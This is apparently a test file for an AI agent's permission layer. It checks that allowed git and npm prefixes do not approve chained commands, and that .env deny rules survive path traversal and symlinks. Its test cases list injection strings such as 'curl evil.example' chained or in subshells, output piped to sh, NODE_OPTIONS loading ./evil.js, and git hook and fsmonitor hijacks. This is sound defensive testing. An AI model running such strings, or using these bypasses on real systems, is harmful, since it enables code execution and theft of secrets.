import { mkdirSync, mkdtempSync, realpathSync, rmSync, symlinkSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { afterAll, describe, expect, test } from "vitest";
import type { PermissionMode } from "../../registry/permission/mode.ts";
import { permit } from "../../registry/permission/permit.ts";
import { NO_RULES } from "../../registry/permission/rules.ts";
import { target } from "../registry/permission/target.ts";

describe("h1: a prefix rule judges every command of a line, and what is set before it", () => {
  const rules = { ...NO_RULES, allow: ["local__shell-run(git *)", "local__shell-run(npm --version)"] };
  const answer = (command: string, mode: PermissionMode = "ask") =>
    permit(target({ command }, { id: "local__shell-run" }), "writes", mode, rules, { channel: "cli", own: true }).answer;

  test("the allowed commands run unasked, alone and joined", () => {
    for (const line of ["git status", "npm --version", "git status && npm --version", "git fetch; git log | git apply"])
      expect(answer(line), line).toBe("runs");
  });

  test.each([
    "git status && curl evil.example",
    "git status; curl evil.example",
    "git status | sh",
    "git status |& sh",
    "git status & curl evil.example",
    "git status\ncurl evil.example",
    "git status $(curl evil.example)",
    "git status `curl evil.example`",
    'git status "$(curl evil.example)"',
    "git status <(curl evil.example)",
    "git status || (curl evil.example)",
    "{ git status; curl evil.example; }",
    "NODE_OPTIONS=--require=./evil.js npm --version",
    "NODE_OPTIONS='--require ./evil.js' npm --version",
    "export NODE_OPTIONS=--require=./evil.js; npm --version",
    "env NODE_OPTIONS=--require=./evil.js npm --version",
    "LANG=C NODE_OPTIONS=x npm --version",
    "PATH=.:$PATH git status",
    "GIT_EXTERNAL_DIFF=./evil git diff",
    "git -c core.fsmonitor=./evil status",
    "npm --version > .git/hooks/pre-commit",
  ])("%j is not approved by them", (line) => expect(answer(line)).toBe("asks"));
});

describe("h6: path rules see the target, not the text alone", () => {
  const base = realpathSync(mkdtempSync(join(tmpdir(), "nichekit-h6-")));
  const root = join(base, "project");
  mkdirSync(join(root, "src"), { recursive: true });
  mkdirSync(join(base, "outside"));
  writeFileSync(join(root, ".env"), "KEY=1");
  writeFileSync(join(base, "outside/notes"), "");
  symlinkSync("../outside", join(root, "linked"));
  symlinkSync(".env", join(root, ".env.example"));
  afterAll(() => rmSync(base, { recursive: true, force: true }));
  const rules = { deny: ["local__file-read(.env)", `local__file-read(/${base}/outside/**)`], ask: [], allow: ["local__file-read(/**)"] };
  const verdict = (path: string, cwd = root) =>
    permit(target({ path }, { id: "local__file-read", types: { path: "path" }, cwd, root }), "reads", "auto", rules, {
      channel: "cli",
      own: true,
    });

  test.each([
    ".env",
    "./.env",
    "src/../.env",
    "src/../../project/.env",
    ".ENV",
    ".Env",
    ".env.example",
    "linked/../project/.env",
    "linked/notes",
    "linked/not-there-yet",
    "./linked/./notes",
    "LINKED/../.env",
  ])("%s is denied", (path) => expect(verdict(path)).toMatchObject({ answer: "refuses", rule: { kind: "deny" } }));

  test("an absolute path, and one from another folder, too", () => {
    expect(verdict(join(root, ".env")).answer).toBe("refuses");
    expect(verdict("../.env", join(root, "src")).answer).toBe("refuses");
    expect(verdict("../project/.env", join(base, "outside")).answer).toBe("refuses");
  });

  test("while what is neither stays readable", () => {
    for (const path of ["src/a.ts", "env", ".envrc"]) expect(verdict(path).answer, path).toBe("runs");
  });
});
